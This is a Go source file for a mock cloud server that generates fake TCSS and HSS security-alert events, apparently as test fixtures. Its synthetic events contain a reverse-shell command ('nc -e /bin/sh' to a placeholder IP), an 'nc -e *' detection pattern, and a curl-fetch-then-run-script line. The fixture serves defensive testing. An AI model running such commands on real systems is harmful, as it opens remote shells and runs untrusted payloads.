package localcloud

import (
	"encoding/json"
	"fmt"
	"sort"
	"strconv"
	"time"
)

// TCSSReferenceEventID is the event id of the TCSS API reference's example.
const TCSSReferenceEventID = "5202566"

// TCSSSparseEventID is an event whose optional fields are all absent.
const TCSSSparseEventID = "sparse-0001"

// TCSSBadTreeEventID is an event whose process tree is not in the API's notation.
const TCSSBadTreeEventID = "badtree-0001"

// HSSReferenceEventID is the event id of the HSS API reference's example.
const HSSReferenceEventID = "4517fc****-a0ad-11ef-9ac9-********"

// TCSSReferenceResponse is the reference's example response, verbatim but for
// the envelope, which the server adds.
const TCSSReferenceResponse = `{
        "AncestorProcessInfo": {
            "ProcessParam": "-port 22",
            "ProcessPath": "/usr/local/bin/sshd",
            "ProcessStartUser": "root",
            "ProcessUserGroup": "root"
        },
        "EventBaseInfo": {
            "ClientIP": "106.55.163.***",
            "ClusterID": "cls-13nfdn****",
            "ClusterName": "demo-dev",
            "ContainerId": "1***5fe59dbd61071f16d6165480d381********",
            "ContainerIsolateOperationSrc": "system",
            "ContainerName": "/adoring_ishizaka",
            "ContainerNetStatus": "NORMAL",
            "ContainerNetSubStatus": "NONE",
            "EventCount": 2,
            "EventId": "10302329",
            "EventName": "异常进程事件-告警",
            "EventType": "FILE_ABNORMAL_READ",
            "FoundTime": "2024-10-21 15:55:45",
            "HostID": "1414-18a1-4775-9e3f-cdfc898********",
            "HostIP": "172.16.0.34",
            "ImageId": "sha256:1413413431fd9255658c128086395d3********",
            "ImageName": "alpine:latest",
            "LatestFoundTime": "2024-10-21 20:57:12",
            "Namespace": "default",
            "NodeID": "d41d8cd98f00******",
            "NodeName": "d41d8cd98f00*****",
            "NodeSubNetCIDR": "fe80::8132:1b51:52******",
            "NodeSubNetID": "sub-fn4nf***",
            "NodeSubNetName": "dev",
            "NodeType": "NORMAL",
            "NodeUniqueID": "fe8dfjf2d2****",
            "PodIP": "1.1.1.1",
            "PodName": "pod-dev",
            "PodStatus": "RUNNING",
            "Status": "EVENT_DEALED",
            "WorkloadType": "StatefulSet"
        },
        "EventDetail": {
            "Description": "检测到疑似反弹shell命令执行",
            "GroupName": "SYSTEM_DEFINED_RULE",
            "MatchRule": {
                "ProcessPath": "/usr/bin",
                "RuleId": "100000000000000000000004",
                "RuleLevel": "HIGH",
                "RuleMode": "RULE_MODE_ALERT"
            },
            "OperationTime": "2024-10-23 17:38:12",
            "Remark": "for dev",
            "RuleId": "124",
            "RuleName": "REVERSE_SHELL",
            "Solution": "排查反弹shell行为及目标地址是否为业务正常需要"
        },
        "ParentProcessInfo": {
            "ProcessId": 330852,
            "ProcessName": "containerd-shim",
            "ProcessParam": "containerd-shim -namespace moby -workdir /data/kubernetes/docker/containerd/daemon/io.containerd.runtime.v1.linux/moby/ /var/run/docker/runtime-runc",
            "ProcessPath": "/usr/bin/containerd-shim",
            "ProcessStartUser": "root",
            "ProcessUserGroup": "root"
        },
        "ProcessInfo": {
            "ProcessAuthority": "-rwxr-xr-x",
            "ProcessId": 2907621,
            "ProcessMd5": "8a5772dee965c8223aebc1225e*****",
            "ProcessName": "xenoncli",
            "ProcessParam": "xenoncli xenon ping",
            "ProcessPath": "/usr/local/bin/xenoncli",
            "ProcessStartUser": "root",
            "ProcessTree": "xenoncli(2907621)|containerd-shim(330852)|containerd(17863)|dockerd(17838)|systemd(1)",
            "ProcessUserGroup": "0"
        }
}`

// tcssSparseResponse has only an event id: every other field is absent, and
// one object is an explicit null.
const tcssSparseResponse = `{
        "EventBaseInfo": {"EventId": "sparse-0001"},
        "ProcessInfo": {"ProcessName": "sh", "ProcessTree": null},
        "EventDetail": null
}`

// tcssBadTreeResponse has a process tree that cannot be parsed.
const tcssBadTreeResponse = `{
        "EventBaseInfo": {"EventId": "badtree-0001"},
        "ProcessInfo": {"ProcessName": "sh", "ProcessId": 42, "ProcessTree": "sh|bash|init"}
}`

// HSSReferenceEvent is the reference's example event, verbatim, with its
// process list under process_info_list as the reference shows it.
const HSSReferenceEvent = `{ "severity" : "High", "event_id" : "4517fc****-a0ad-11ef-9ac9-********", "event_class_id" : "appwl_1001", "event_type" : 3040, "event_name" : "Untrusted process running", "host_id" : "4517fc**-be4f-4cbe-9467-******", "attack_phase" : "installation", "attack_tag" : "abnormal_behavior", "occur_time" : 1731385152000, "handle_status" : "unhandled", "operate_accept_list" : [ "add_to_app_whitelist" ], "operate_detail_list" : [ { "agent_id" : "3ed2e2aa24b******1231324********8c28f59cae2780e7bf6adf4e", "process_pid" : 1549, "file_path" : "/usr/bin/login" } ], "resource_info" : { "project_id" : "84b52****e489fa6549888832dc62", "enterprise_project_id" : "0", "region_name" : "cn-north-7", "host_name" : "ecs-hce", "host_ip" : "192.168.0.178", "public_ip" : "100.93.9.43", "host_id" : "2c9****09-be4f-4cbe-9467-73b****8e48f", "asset_value" : "common", "cloud_id" : "", "vm_name" : "ecs-hce", "vm_uuid" : "2c****e09-be4f-4cbe-9467-73b80****e48f", "os_type" : "Linux", "os_name" : "HCE", "os_version" : "2.0" }, "process_info_list" : [ { "process_name" : "login", "process_path" : "/usr/bin/login", "process_pid" : 1549, "process_uid" : 0, "process_cmdline" : "login -- root", "process_filename" : "login", "process_start_time" : 1719820957, "parent_process_name" : "systemd", "parent_process_path" : "/usr/lib/systemd/systemd", "parent_process_pid" : 1, "parent_process_cmdline" : "/usr/lib/systemd/systemd --switched-root --system --deserialize 16", "process_file_hash" : "d0364db3f6****d969c4475705d57154df518d0560****21abd34ca" } ] }`

// TCSSGeneratedEventID names the i-th generated TCSS event (from 1).
func TCSSGeneratedEventID(i int) string { return fmt.Sprintf("evt-%05d", i) }

// tcssLevels cycles over generated events: event i has level tcssLevels[i%3].
var tcssLevels = []string{"HIGH", "MIDDLE", "LOW"}

// TCSSGeneratedStatus is the status of the i-th generated event: every
// fourth is handled, every fifth ignored, the rest unhandled.
func TCSSGeneratedStatus(i int) string {
	switch {
	case i%4 == 0:
		return "EVENT_DEALED"
	case i%5 == 0:
		return "EVENT_INGNORE"
	}
	return "EVENT_UNDEAL"
}

// TCSSGeneratedClusterName is the cluster of the i-th generated event.
func TCSSGeneratedClusterName(i int) string { return []string{"prod", "staging"}[i%2] }

// TCSSGeneratedRuleLevel is the match_rule.rule_level of the i-th generated event.
func TCSSGeneratedRuleLevel(i int) string { return tcssLevels[i%len(tcssLevels)] }

// TCSSGeneratedProcessID is the process id of the i-th generated event.
func TCSSGeneratedProcessID(i int) int64 { return 100000 + int64(i) }

// TCSSZone is the zone of TCSS's zone-less times unless Config.TCSSTimeZone
// says otherwise: China Standard Time, as the TCSS console shows them.
const TCSSZone = "Asia/Shanghai"

// tcssSpan is how far back generated TCSS events go, like HSS's.
const tcssSpan = 30 * 24 * time.Hour

// TCSSGeneratedFoundTime is the FoundTime of the i-th of n generated events
// at now, with the default TCSSSpan: spread evenly over the last 30 days, the
// higher i the newer, to the second.
func TCSSGeneratedFoundTime(now time.Time, i, n int) time.Time {
	return tcssFoundTime(now, tcssSpan, i, n)
}

// TCSSFoundTimeOver is TCSSGeneratedFoundTime for a server whose TCSSSpan is span.
func TCSSFoundTimeOver(now time.Time, span time.Duration, i, n int) time.Time {
	return tcssFoundTime(now, span, i, n)
}

func tcssFoundTime(now time.Time, span time.Duration, i, n int) time.Time {
	return now.Add(-span).Add(tcssSpacing(span, n) * time.Duration(i)).Truncate(time.Second)
}

func tcssSpacing(span time.Duration, n int) time.Duration {
	return (span - time.Minute) / time.Duration(n+1)
}

// TCSSGeneratedLatestFoundTime is the LatestFoundTime of the i-th of n
// generated events at now: 0, 1.5 or 3 spacings after its FoundTime, never
// after now, so that every third event overtakes the next and the two
// orders differ.
func TCSSGeneratedLatestFoundTime(now time.Time, i, n int) time.Time {
	return tcssLatestFoundTime(now, tcssSpan, i, n)
}

func tcssLatestFoundTime(now time.Time, span time.Duration, i, n int) time.Time {
	latest := tcssFoundTime(now, span, i, n).Add(tcssSpacing(span, n) * time.Duration((n+1-i)%3) * 3 / 2)
	if latest.After(now) {
		return now.Truncate(time.Second)
	}
	return latest.Truncate(time.Second)
}

// TCSSNewestByLatest is the generated event (of n at now) that LatestFoundTime
// desc puts first; ties go to the lower id, as the list sorts them.
func TCSSNewestByLatest(now time.Time, n int) int {
	best := 1
	for i := 2; i <= n; i++ {
		if TCSSGeneratedLatestFoundTime(now, i, n).After(TCSSGeneratedLatestFoundTime(now, best, n)) {
			best = i
		}
	}
	return best
}

// generateTCSSEvent makes the detail of the i-th event; sparse keeps only
// what real sparse events carry (and what the tests read: ids, pids, level).
func generateTCSSEvent(i, n int, now time.Time, span time.Duration, zone *time.Location, sparse bool) map[string]any {
	id := TCSSGeneratedEventID(i)
	pid := TCSSGeneratedProcessID(i)
	found := tcssFoundTime(now, span, i, n).In(zone)
	latest := tcssLatestFoundTime(now, span, i, n).In(zone)
	if sparse {
		return map[string]any{
			"EventBaseInfo": map[string]any{
				"EventId": id, "FoundTime": found.Format(time.DateTime), "Status": TCSSGeneratedStatus(i),
				"EventType": "MALICE_PROCESS_START", "EventCount": 1, "LatestFoundTime": latest.Format(time.DateTime),
				"HostIP": fmt.Sprintf("10.0.%d.%d", i/250%250, i%250+1),
			},
			"ProcessInfo": map[string]any{
				"ProcessName": "nc", "ProcessId": pid, "ProcessPath": "/usr/bin/nc",
				"ProcessTree": fmt.Sprintf("nc(%d)|bash(%d)|systemd(1)", pid, pid-1),
			},
			"EventDetail": map[string]any{"MatchRule": map[string]any{"RuleLevel": TCSSGeneratedRuleLevel(i), "CmdLine": "nc -e *"}},
		}
	}
	return map[string]any{
		"EventBaseInfo": map[string]any{
			"EventId": id, "FoundTime": found.Format(time.DateTime), "ContainerId": "c-" + id,
			"ContainerName": "/app-" + strconv.Itoa(i), "ImageId": "sha256:" + id, "ImageName": "nginx:1.27",
			"NodeName": "node-" + strconv.Itoa(i%7), "Status": TCSSGeneratedStatus(i), "EventName": "abnormal process",
			"EventType": "MALICE_PROCESS_START", "EventCount": i%5 + 1,
			"LatestFoundTime": latest.Format(time.DateTime), "HostIP": fmt.Sprintf("10.0.%d.%d", i/250, i%250+1),
			"ClientIP": "203.0.113.9", "ContainerNetStatus": "NORMAL", "ContainerNetSubStatus": "NONE",
			"ContainerIsolateOperationSrc": "user", "NodeID": "ins-" + id, "NodeType": "NORMAL",
			"NodeSubNetID": "subnet-1", "NodeSubNetName": "default", "NodeSubNetCIDR": "10.0.0.0/16",
			"PodName": "pod-" + id, "PodIP": "172.20.0.5", "PodStatus": "RUNNING", "ClusterID": "cls-local",
			"ClusterName": TCSSGeneratedClusterName(i), "NodeUniqueID": "uniq-" + id, "HostID": "host-" + id, "Namespace": "default",
			"WorkloadType": "Deployment", "ContainerStatus": "RUNNING",
		},
		"ProcessInfo": map[string]any{
			"ProcessName": "nc", "ProcessAuthority": "-rwxr-xr-x", "ProcessId": pid, "ProcessStartUser": "root",
			"ProcessUserGroup": "root", "ProcessPath": "/usr/bin/nc",
			"ProcessTree": fmt.Sprintf("nc(%d)|bash(%d)|containerd-shim(900)|systemd(1)", pid, pid-1),
			"ProcessMd5":  "d41d8cd98f00b204e9800998ecf8427e", "ProcessParam": "nc -e /bin/sh 198.51.100.7 4444",
		},
		"ParentProcessInfo": map[string]any{
			"ProcessName": "bash", "ProcessId": pid - 1, "ProcessStartUser": "root", "ProcessUserGroup": "root",
			"ProcessPath": "/bin/bash", "ProcessParam": "bash -i",
		},
		"AncestorProcessInfo": map[string]any{
			"ProcessStartUser": "root", "ProcessUserGroup": "root", "ProcessPath": "/usr/bin/containerd-shim",
			"ProcessParam": "-namespace k8s.io",
		},
		"EventDetail": map[string]any{
			"Description": "reverse shell suspected", "Solution": "check the destination", "Remark": "generated",
			"RuleName": "REVERSE_SHELL", "RuleId": "124", "OperationTime": found.Add(2 * time.Hour).Format(time.DateTime),
			"GroupName": "SYSTEM_DEFINED_RULE",
			"MatchRule": map[string]any{
				"ProcessPath": "/usr/bin/nc", "RuleMode": "RULE_MODE_ALERT", "CmdLine": "nc -e *",
				"RuleId": "rule-" + strconv.Itoa(i%4), "RuleLevel": TCSSGeneratedRuleLevel(i),
			},
		},
	}
}

// hssEvent is one HSS event as the server stores it: the fields it filters on,
// and the JSON it serves.
type hssEvent struct {
	id, hostName, hostIP, privateIP, handleStatus, enterpriseProject string
	occurTime                                                        int64
	raw                                                              json.RawMessage
}

// HSSSeverities cycles over generated events: event i has severity HSSSeverities[i%5].
var HSSSeverities = []string{"Security", "Low", "Medium", "High", "Critical"}

// HSSHostNames cycles over generated events: event i is on host HSSHostNames[i%4].
var HSSHostNames = []string{"web-1", "web-2", "db-1", "batch-1"}

// HSSGeneratedPrivateIP is the private_ip of hosts HSSHostNames[h].
func HSSGeneratedPrivateIP(h int) string { return fmt.Sprintf("192.168.10.%d", h+10) }

// HSSGeneratedHostIP is the resource_info.host_ip of hosts HSSHostNames[h].
func HSSGeneratedHostIP(h int) string { return fmt.Sprintf("10.20.0.%d", h+10) }

// HSSGeneratedHandleStatus is the handle_status of the i-th generated event:
// every third event is handled.
func HSSGeneratedHandleStatus(i int) string {
	if i%3 == 0 {
		return "handled"
	}
	return "unhandled"
}

// HSSGeneratedHandleMethod is the handle_method of the i-th generated
// event, one of the SDK's documented values.
func HSSGeneratedHandleMethod(i int) string {
	return []string{"mark_as_trust", "mark_as_suspicious", "isolate_and_kill"}[i%3]
}

// Shape says which generated HSS events have most optional fields absent.
type Shape int

const (
	// ShapeMixed, the default: real data, where a share of events is sparse (HSSGeneratedSparse).
	ShapeMixed Shape = iota
	// ShapeFull fills every field of every event.
	ShapeFull
	// ShapeSparse makes every event sparse.
	ShapeSparse
)

// HSSGeneratedSparse says whether the i-th generated event of a mixed set is
// sparse: three in seven.
func HSSGeneratedSparse(i int) bool { return i%7 < 3 }

func (sh Shape) sparse(i int) bool {
	switch sh {
	case ShapeFull:
		return false
	case ShapeSparse:
		return true
	}
	return HSSGeneratedSparse(i)
}

// generateHSSEvents makes n events spread evenly over (from, to], newest
// first, shaped by shape, event i in enterprise project projects[i%len].
func generateHSSEvents(n int, from, to time.Time, projects []string, shape Shape) []hssEvent {
	out := make([]hssEvent, 0, n)
	span := to.Sub(from)
	for i := range n {
		occur := to.Add(-time.Duration(float64(span) * (float64(i) + 0.5) / float64(n))).UnixMilli()
		out = append(out, generateHSSEvent(i, occur, projects[i%len(projects)], shape.sparse(i)))
	}
	return out
}

// HSSGeneratedEnterpriseProject is the enterprise project of the i-th
// generated event of an account with n enterprise projects: the default,
// "0", then "ep-1" to "ep-<n-1>", in turn.
func HSSGeneratedEnterpriseProject(i, n int) string {
	if i%max(n, 1) == 0 {
		return "0"
	}
	return fmt.Sprintf("ep-%d", i%n)
}

// generateHSSEvent makes one event, every field filled in; or, sparse, as
// real host events mostly are: no handle_time while unhandled, no container,
// process hashes or child process, one short process_info entry, a few
// resource fields. A sparse event keeps every field the server filters on.
func generateHSSEvent(i int, occur int64, enterpriseProject string, sparse bool) hssEvent {
	if sparse {
		return generateSparseHSSEvent(i, occur, enterpriseProject)
	}
	h := i % len(HSSHostNames)
	id := fmt.Sprintf("hss-%06d-%d", i, occur)
	status := HSSGeneratedHandleStatus(i)
	ev := map[string]any{
		"event_id": id, "event_class_id": "appwl_1001", "event_type": 3040, "event_name": "Untrusted process running",
		"severity": HSSSeverities[i%len(HSSSeverities)], "host_name": HSSHostNames[h], "host_id": fmt.Sprintf("host-%d", h),
		"private_ip": HSSGeneratedPrivateIP(h), "public_ip": fmt.Sprintf("100.93.9.%d", h+1),
		"attack_phase": "installation", "attack_tag": "abnormal_behavior", "occur_time": occur,
		"handle_status": status, "handle_method": HSSGeneratedHandleMethod(i),
		"operate_accept_list": []string{"add_to_app_whitelist", "ignore"},
		"operate_detail_list": []map[string]any{{
			"agent_id": fmt.Sprintf("agent-%d", h), "process_pid": 1000 + i%30000, "file_hash": "e3b0c442",
			"file_path": "/usr/bin/curl", "file_attr": "-rwxr-xr-x", "private_ip": HSSGeneratedPrivateIP(h),
			"login_ip": "203.0.113.5", "login_user_name": "root",
		}},
		"resource_info": map[string]any{
			"domain_id": "domain-local", "project_id": "project-local", "enterprise_project_id": enterpriseProject,
			"region_name": "cn-north-4", "vpc_id": "vpc-1", "cloud_id": "cloud-1", "vm_name": HSSHostNames[h],
			"vm_uuid": fmt.Sprintf("uuid-%d", h), "container_id": "ctr-1", "image_id": "img-1", "image_name": "nginx:1.27",
			"host_attr": "ecs", "service": "web", "micro_service": "frontend", "sys_arch": "x86_64", "os_bit": "64",
			"os_type": "Linux", "os_name": "EulerOS", "host_name": HSSHostNames[h], "host_ip": HSSGeneratedHostIP(h),
			"public_ip": fmt.Sprintf("100.93.9.%d", h+1), "host_id": fmt.Sprintf("host-%d", h), "pod_uid": "pod-uid-1",
			"pod_name": "pod-1", "namespace": "default", "cluster_id": "cce-1", "cluster_name": "prod",
			"asset_value": "important", "container_status": "running", "os_version": "2.10", "agent_version": "3.2.10",
		},
		"recommendation": "Add the process to the whitelist if it is expected.",
		"process_info": []map[string]any{{
			"process_name": "curl", "process_path": "/usr/bin/curl", "process_pid": 1000 + i%30000, "process_uid": 0,
			"process_username": "root", "process_cmdline": "curl http://198.51.100.7/x.sh", "process_filename": "curl",
			"process_start_time": occur - 5000, "process_gid": 0, "process_egid": 0, "process_euid": 0,
			"parent_process_name": "bash", "parent_process_path": "/bin/bash", "parent_process_pid": 999,
			"parent_process_uid": 0, "parent_process_cmdline": "bash -i", "parent_process_filename": "bash",
			"parent_process_start_time": occur - 60000, "parent_process_gid": 0, "parent_process_egid": 0,
			"parent_process_euid": 0, "child_process_name": "sh", "child_process_path": "/bin/sh",
			"child_process_pid": 2000 + i%30000, "child_process_uid": 0, "child_process_cmdline": "sh x.sh",
			"child_process_filename": "sh", "child_process_start_time": occur - 1000, "child_process_gid": 0,
			"child_process_egid": 0, "child_process_euid": 0, "virt_cmd": "none", "virt_process_name": "none",
			"escape_mode": "none", "escape_cmd": "none", "process_hash": "9f86d081", "mode": "0755", "rule": 7,
			"score": 80, "process_file_hash": "60303ae2", "parent_process_file_hash": "fd61a03a",
			"ancestor_process_pid": 1, "ancestor_process_cmdline": "/sbin/init", "ancestor_process_path": "/sbin/init",
			"operate_type": 1, "session_id": 4242,
		}},
		"policy_id": "policy-1", "policy_name": "default", "os_type": "Linux", "asset_value": "important",
		"host_status": "ACTIVE", "agent_status": "online", "protect_status": "opened",
	}
	return storedHSSEvent(i, occur, enterpriseProject, ev)
}

func generateSparseHSSEvent(i int, occur int64, enterpriseProject string) hssEvent {
	h := i % len(HSSHostNames)
	id := fmt.Sprintf("hss-%06d-%d", i, occur)
	status := HSSGeneratedHandleStatus(i)
	ev := map[string]any{
		"event_id": id, "event_class_id": "appwl_1001", "event_type": 3040, "event_name": "Untrusted process running",
		"severity": HSSSeverities[i%len(HSSSeverities)], "host_name": HSSHostNames[h], "host_id": fmt.Sprintf("host-%d", h),
		"private_ip": HSSGeneratedPrivateIP(h), "attack_phase": "installation", "attack_tag": "abnormal_behavior",
		"occur_time": occur, "handle_status": status, "operate_accept_list": []string{"add_to_app_whitelist"},
		"resource_info": map[string]any{
			"enterprise_project_id": enterpriseProject, "region_name": "cn-north-4", "host_name": HSSHostNames[h],
			"host_ip": HSSGeneratedHostIP(h), "host_id": fmt.Sprintf("host-%d", h), "os_type": "Linux",
		},
		"process_info": []map[string]any{{
			"process_name": "curl", "process_path": "/usr/bin/curl", "process_pid": 1000 + i%30000,
			"process_cmdline": "curl http://198.51.100.7/x.sh",
		}},
		"os_type": "Linux",
	}
	return storedHSSEvent(i, occur, enterpriseProject, ev)
}

// storedHSSEvent is the i-th generated event as the server keeps it: ev, with
// a handle_time once handled, and the fields the server filters on.
func storedHSSEvent(i int, occur int64, enterpriseProject string, ev map[string]any) hssEvent {
	h := i % len(HSSHostNames)
	status := HSSGeneratedHandleStatus(i)
	if status == "handled" {
		ev["handle_time"] = occur + 3_600_000
	}
	raw, _ := json.Marshal(ev)
	return hssEvent{
		id: fmt.Sprint(ev["event_id"]), hostName: HSSHostNames[h], hostIP: HSSGeneratedHostIP(h), privateIP: HSSGeneratedPrivateIP(h),
		handleStatus: status, enterpriseProject: enterpriseProject, occurTime: occur, raw: raw,
	}
}

func hssReference() hssEvent {
	return hssEvent{
		id: HSSReferenceEventID, hostName: "ecs-hce", hostIP: "192.168.0.178", handleStatus: "unhandled",
		enterpriseProject: "0", occurTime: 1731385152000, raw: json.RawMessage(HSSReferenceEvent),
	}
}

func sortNewestFirst(events []hssEvent) {
	sort.SliceStable(events, func(a, b int) bool { return events[a].occurTime > events[b].occurTime })
}
